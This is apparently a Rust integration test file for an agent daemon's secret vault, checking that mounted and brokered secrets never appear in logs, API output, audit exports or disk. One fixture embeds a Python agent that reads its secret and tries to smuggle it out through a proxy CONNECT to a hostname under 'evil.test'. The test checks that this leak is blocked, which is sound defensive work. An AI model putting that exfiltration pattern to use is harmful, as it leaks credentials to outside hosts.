//! Secrets: who gets them, how, and where they are never seen.

use std::process::Stdio;
use std::time::Duration;

use mesh_tests::{Bundle, Daemon, Outside, eventually, has_python};
use rustix::process::Signal;
use serde_json::{Value, json};

use crate::egress::{daemon, traveller};

const WITHIN: Duration = Duration::from_secs(30);

/// No word of this is anywhere else.
const SECRET: &str = "zq7-Xk2-only-here-9931";

fn set(daemon: &Daemon, name: &str, body: &Value) -> Value {
    let bytes = body.to_string();
    let answer = daemon.client().send(
        "PUT",
        &format!("/v1/secrets/{name}"),
        &[("content-type", "application/json")],
        Some(bytes.as_bytes()),
    );
    answer.ok(200)
}

/// Every file below a directory in which the word stands.
fn files_with(dir: &std::path::Path, word: &str) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            found.extend(files_with(&path, word));
        } else if std::fs::read(&path).is_ok_and(|bytes| {
            bytes
                .windows(word.len())
                .any(|part| part == word.as_bytes())
        }) {
            found.push(path);
        }
    }
    found
}

#[test]
fn a_mounted_secret_is_a_file_of_the_agents_own_and_nowhere_else() {
    if !has_python("a_mounted_secret_is_a_file_of_the_agents_own_and_nowhere_else") {
        return;
    }
    let outside = Outside::start();
    let daemon = daemon(&outside);
    let listed = set(&daemon, "db", &json!({"value": SECRET, "agents": ["crm"]}));
    assert!(!listed.to_string().contains(SECRET), "{listed}");
    let mount = json!([{"name": "db-password", "from": "vault://db", "mode": "mount"}]);
    daemon.deploy(&Bundle::traveller("crm").set("secrets", mount));
    daemon.deploy(&Bundle::traveller("other"));
    let path = "/run/secrets/db-password";
    let seen = daemon.output(
        "crm",
        &json!({"read": ["read", path], "mode": ["mode", path], "write": ["write", path], "beside": ["write", "/run/secrets/x"], "env": ["env"]}),
    );
    assert_eq!(seen["read"]["value"], SECRET, "{seen}");
    assert_eq!(
        (
            &seen["mode"]["value"]["mode"],
            &seen["mode"]["value"]["own"]
        ),
        (&json!("0o400"), &json!(true)),
        "{seen}"
    );
    // Read-only, no set-user-id, no devices, no programs.
    assert_eq!(
        seen["mode"]["value"]["flags"].as_u64().unwrap() & 0xf,
        0xf,
        "{seen}"
    );
    assert_eq!(
        (&seen["write"]["ok"], &seen["beside"]["ok"]),
        (&json!(false), &json!(false)),
        "{seen}"
    );
    assert!(!seen["env"].to_string().contains(SECRET));
    let seen = daemon.output(
        "other",
        &json!({"read": ["read", path], "hunt": ["hunt", SECRET]}),
    );
    assert_eq!(seen["read"]["ok"], false, "{seen}");

    let id = daemon.audit("kind=access.allowed");
    assert!(
        id.iter()
            .any(|entry| entry["payload"]["action"] == "secrets"),
        "{id:?}"
    );
    for place in [
        "/v1/secrets",
        "/v1/agents/crm",
        "/v1/agents/crm/sandbox",
        "/v1/agents/crm/policy",
        "/metrics",
        "/status",
    ] {
        assert!(
            !daemon.client().get(place).text().contains(SECRET),
            "{place}"
        );
    }
    let command = std::fs::read(format!("/proc/{}/cmdline", daemon.pid())).unwrap();
    assert!(!String::from_utf8_lossy(&command).contains(SECRET));
    // What the agent was told by its task is its own affair, so the log holds the word in outputs; the vault's file does not.
    let vault = std::fs::read(daemon.home().data().join("secrets/vault")).unwrap();
    assert!(!String::from_utf8_lossy(&vault).contains(SECRET));
}

#[test]
fn a_brokered_secret_reaches_the_server_and_never_the_agent() {
    if !has_python("a_brokered_secret_reaches_the_server_and_never_the_agent") {
        return;
    }
    let outside = Outside::start();
    let daemon = daemon(&outside);
    let port = outside.port();
    set(
        &daemon,
        "api-key",
        &json!({"value": SECRET, "agents": ["net"], "domains": ["api.test"]}),
    );
    let spec = |domains: Value| {
        json!([{"name": "key", "from": "vault://api-key", "domains": domains, "methods": ["GET", "POST"], "paths": ["/v1/*"],
                "header": "X-Api-Key: {secret}", "tls": false}])
    };
    let bundle = traveller("net", &["api.test", "free.test"])
        .set("secrets", spec(json!(["api.test", "free.test"])));
    daemon.deploy(&bundle);
    let post = |host: &str, path: &str| json!(["http", format!("http://{host}:{port}{path}"), "POST", {"x-api-key": "my own"}, "{}"]);
    // The server of this test echoes: what the agent sees of the answer must not be taken for what it was given.
    let seen = daemon.output(
        "net",
        &json!({"env": ["env"], "path": post("api.test", "/v2"), "unbound": post("free.test", "/v1/x"), "hunt": ["hunt", &SECRET[..8]]}),
    );
    assert_eq!(
        outside
            .heard()
            .iter()
            .filter(|text| text.contains(SECRET))
            .count(),
        0,
        "{:?}",
        outside.heard()
    );
    assert_eq!(
        seen["path"]["value"]["status"], 200,
        "only the credential is bound to the path: {seen}"
    );
    assert_eq!(
        seen["unbound"]["value"]["code"], "credential_missing",
        "the vault binds it to api.test alone: {seen}"
    );
    assert!(!seen.to_string().contains(SECRET), "{seen}");
    let found = seen["hunt"]["value"].as_array().unwrap();
    assert!(
        found
            .iter()
            .all(|place| !place.as_str().unwrap().starts_with("/run")),
        "{seen}"
    );

    // As a program that throws the answer away.
    let id = daemon.ask("net", &json!({"bound": ["raw", format!(
        "POST http://api.test:{port}/v1/x HTTP/1.1\r\nHost: api.test:{port}\r\nX-Api-Key: mine\r\nContent-Length: 0\r\n\r\n"
    )]}));
    daemon.ended(&id, std::time::Duration::from_mins(1));
    let heard = outside.heard();
    let bound: Vec<&String> = heard.iter().filter(|text| text.contains("/v1/x")).collect();
    assert_eq!(bound.len(), 1, "{heard:?}");
    assert!(
        bound[0]
            .to_lowercase()
            .contains(&format!("x-api-key: {SECRET}").to_lowercase()),
        "{heard:?}"
    );
    assert!(!bound[0].contains("mine"), "{heard:?}");

    // A server that does not echo: nothing of meshd's holds the word then.
    let (home, _) = daemon.stop(Signal::TERM);
    assert!(!home.log().contains(SECRET), "the log of the daemon");
}

#[test]
fn nothing_that_meshd_writes_holds_a_secret() {
    let daemon = Daemon::start();
    set(&daemon, "quiet", &json!({"value": SECRET, "agents": ["*"]}));
    let refused = daemon.client().send(
        "PUT",
        "/v1/secrets/quiet",
        &[("content-type", "application/json")],
        Some(format!("{{\"value\": \"{SECRET}\", \"surprise\": 1}}").as_bytes()),
    );
    assert_eq!(refused.status, 422, "{}", refused.text());
    assert!(!refused.text().contains(SECRET), "{}", refused.text());
    let bundle = Bundle::echo("quiet").set(
        "secrets",
        json!([{"name": "k", "from": "vault://quiet", "mode": "mount"}]),
    );
    daemon.deploy(&bundle);
    let exported = daemon.ctl(&["audit", "export"]).exits(0);
    assert!(!format!("{exported:?}").contains(SECRET));
    let (home, code) = daemon.stop(Signal::TERM);
    assert_eq!(code, 0);
    assert_eq!(
        files_with(home.data(), SECRET),
        Vec::<std::path::PathBuf>::new()
    );
    assert!(!home.log().contains(SECRET));
    // And it is there again in the next life, until its key is gone.
    let daemon = home.start();
    let listed = daemon.client().get("/v1/secrets").ok(200);
    assert_eq!(listed["items"][0]["name"], "quiet", "{listed}");
    let (home, _) = daemon.stop(Signal::TERM);
    std::fs::remove_file(home.data().join("vault.key")).unwrap();
    let daemon = home.start();
    daemon
        .client()
        .get("/v1/secrets")
        .problem(503, "vault_unavailable");
}

/// Says its secret in a note and in the reason of a failure, and names a host by it.
const CARELESS: &str = r#"
import json, os, socket, sys

def send(kind, payload, **head):
    print(json.dumps({"type": kind, "payload": payload, **head}), flush=True)

secret = open("/run/secrets/k").read()
send("HANDSHAKE", {"name": "careless", "version": "1.0.0", "capabilities": ["careless"]})
for line in sys.stdin:
    message = json.loads(line)
    if message["type"] != "TASK_REQUEST":
        continue
    task = message["task_id"]
    with socket.create_connection(("127.0.0.1", 3128)) as proxy:
        proxy.sendall(("CONNECT %s.evil.test:443 HTTP/1.1\r\n\r\n" % secret).encode())
        assert b"403" in proxy.recv(4096)
    send("STATUS_UPDATE", {"progress": 0.5, "note": "using " + secret}, task_id=task)
    send("STATUS_UPDATE", {"health": {"status": "warning", "message": secret + " is refused"}})
    failure = {"class": "refusal", "message": "401 for key " + secret + "!", "retryable": False}
    send("TASK_RESULT", {"ok": False, "error": failure}, task_id=task)
"#;

#[test]
fn what_an_agent_says_of_itself_is_kept_without_its_secret() {
    if !has_python("what_an_agent_says_of_itself_is_kept_without_its_secret") {
        return;
    }
    let daemon = Daemon::start();
    set(
        &daemon,
        "k",
        &json!({"value": SECRET, "agents": ["careless"]}),
    );
    let access = json!({"networkAccess": {"allowOutbound": true, "allowedDomains": ["good.test"]}});
    let bundle = Bundle::new("careless")
        .set("entry", json!("main.py"))
        .set("runtime", json!({"command": "python3"}))
        .set("security", access)
        .set(
            "secrets",
            json!([{"name": "k", "from": "vault://k", "mode": "mount"}]),
        )
        .file("main.py", CARELESS);
    daemon.deploy(&bundle);
    let task = daemon.ask("careless", &json!("go"));
    let ended = daemon.ended(&task, WITHIN);
    let failure = ended["error"].to_string();
    assert!(failure.contains("401 for key [secret k]!"), "{ended}");
    let denied = eventually("the refusal is on record", WITHIN, || {
        let denied = daemon.audit("kind=egress.denied");
        denied.first().cloned().ok_or_else(|| "none".to_owned())
    });
    assert_eq!(
        denied["payload"]["host"], "[secret k].evil.test",
        "{denied:?}"
    );
    let agent = daemon
        .client()
        .get("/v1/agents/careless")
        .ok(200)
        .to_string();
    assert!(!agent.contains(SECRET), "{agent}");
    assert!(agent.contains("\"refusedMessages\":0"), "{agent}");
    let (home, code) = daemon.stop(Signal::TERM);
    assert_eq!(code, 0);
    assert_eq!(
        files_with(home.data(), SECRET),
        Vec::<std::path::PathBuf>::new()
    );
    assert!(!home.log().contains(SECRET));
}

#[test]
fn a_secret_that_is_not_there_or_not_for_this_agent_keeps_it_from_starting() {
    let daemon = Daemon::start();
    set(
        &daemon,
        "others",
        &json!({"value": "v", "agents": ["somebody"]}),
    );
    set(
        &daemon,
        "bound",
        &json!({"value": "v", "agents": ["*"], "domains": ["api.test"]}),
    );
    for (name, mode, says) in [
        ("absent", "mount", "there is no secret absent"),
        ("others", "mount", "not granted to a"),
        ("bound", "mount", "no agent gets it as a file"),
        ("bound", "brokered", "allowOutbound"),
    ] {
        let bundle = Bundle::echo("a").set(
            "secrets",
            json!([{"name": "k", "from": format!("vault://{name}"), "mode": mode, "domains": ["api.test"]}]),
        );
        let tar = bundle.tar();
        let answer = daemon.client().send(
            "POST",
            "/v1/agents",
            &[("content-type", "application/x-tar")],
            Some(&tar),
        );
        let problem = answer.problem(422, "start_refused");
        assert_eq!(problem["field"], "secrets", "{problem}");
        assert!(
            problem["detail"].as_str().unwrap().contains(says),
            "{problem}"
        );
    }
}

#[test]
fn the_command_reads_a_value_from_standard_input_and_shows_it_never() {
    let daemon = Daemon::start();
    let data = daemon.home().data().to_str().unwrap().to_owned();
    let mut child = std::process::Command::new(mesh_tests::binary(mesh_tests::MESHCTL))
        .args(["--data", &data, "secret", "set", "key", "--agent", "crm"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(
        &mut child.stdin.take().unwrap(),
        format!("{SECRET}\n").as_bytes(),
    )
    .unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success());
    let listed = daemon.ctl(&["secret", "list", "-o", "json"]).exits(0);
    assert_eq!(listed.json()["items"][0]["agents"], json!(["crm"]));
    let file = daemon.home().scratch().join("value");
    std::fs::write(&file, SECRET).unwrap();
    let file = file.to_str().unwrap();
    let set = daemon
        .ctl(&[
            "secret",
            "set",
            "key",
            "--any-agent",
            "--domain",
            "api.test",
            "--file",
            file,
        ])
        .exits(0);
    for shown in [
        format!("{:?}", String::from_utf8_lossy(&output.stdout)),
        format!("{set:?}"),
        format!("{listed:?}"),
    ] {
        assert!(!shown.contains(SECRET), "{shown}");
    }
    daemon.ctl(&["secret", "delete", "key"]).exits(0);
    daemon.ctl(&["secret", "delete", "key"]).exits(3);
}
